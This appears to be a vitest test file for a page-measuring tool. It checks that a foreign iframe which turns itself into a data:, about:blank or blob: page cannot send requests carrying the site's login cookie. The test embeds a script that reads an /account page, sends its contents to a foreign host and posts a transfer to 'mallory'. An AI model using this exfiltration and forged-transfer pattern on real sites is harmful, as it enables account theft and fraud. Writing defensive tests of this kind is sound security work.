import { type PageServer, startPageServer } from '@plumbline/testing';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { seePages } from '../responsive/testing/see-page.ts';
import { measurePage } from './measure-page.ts';
import { openLab } from './testing/open-lab.ts';

const COOKIE = 'session=a-secret-of-the-site';
const pages = seePages();
const lab = openLab();
let foreign: PageServer;
beforeAll(async () => {
  foreign = await startPageServer({ '*': { headers: { 'access-control-allow-origin': '*' }, body: '' } });
});
afterAll(() => foreign?.close());
const access = () => ({ origin: pages.site().origin, headers: { cookie: COOKIE, 'x-key': 'another-secret' } });

const steal = (): string => `
  const ask = (path, init) => fetch('${pages.site().origin}' + path, init).then((a) => a.text()).catch((e) => 'failed');
  ask('/account').then((text) => fetch('${foreign.url('/told')}?' + encodeURIComponent(text)))
    .then(() => ask('/transfer', { method: 'POST', body: 'to=mallory', mode: 'no-cors', credentials: 'omit' })).then(() => fetch('${foreign.url('/done')}', { mode: 'no-cors' }));`;

it.each(['data', 'blank', 'blob'])('a foreign frame that turns itself into %s does not get the login', async (how) => {
  const site = pages.site();
  site.requests.length = 0;
  foreign.requests.length = 0;
  const open = { headers: { 'access-control-allow-origin': '*' }, body: 'sign in' };
  site.set('/account', open);
  site.set('/transfer', open);
  const script = `<script>${steal()}</script>`;
  const blob = `new Blob([${JSON.stringify(script).replaceAll('</', '<\\/')}], { type: 'text/html' })`;
  const turn = {
    data: `location = ${JSON.stringify(`data:text/html,${encodeURIComponent(script)}`)}`,
    blank: `location = 'about:blank'`,
    blob: `location = URL.createObjectURL(${blob})`,
  }[how];
  foreign.set('/framed', `<script>addEventListener('load', () => { ${turn?.replaceAll('</', '<\\/')} })</script>`);
  site.set('/with-frame', `<title>Page</title><h1>Page</h1><iframe src="${foreign.url('/framed')}"></iframe>`);
  await pages.pool.use((session) => measurePage(session, site.url('/with-frame'), lab, access()));
  const asked = site.requests.filter(({ path }) => path === '/account' || path === '/transfer');
  expect(JSON.stringify(asked.map(({ headers }) => headers))).not.toContain('secret');
  // Verifies that the frame made its requests; otherwise this proves nothing.
  if (how === 'data') expect(asked.map(({ path }) => path)).toEqual(['/account', '/transfer']);
});
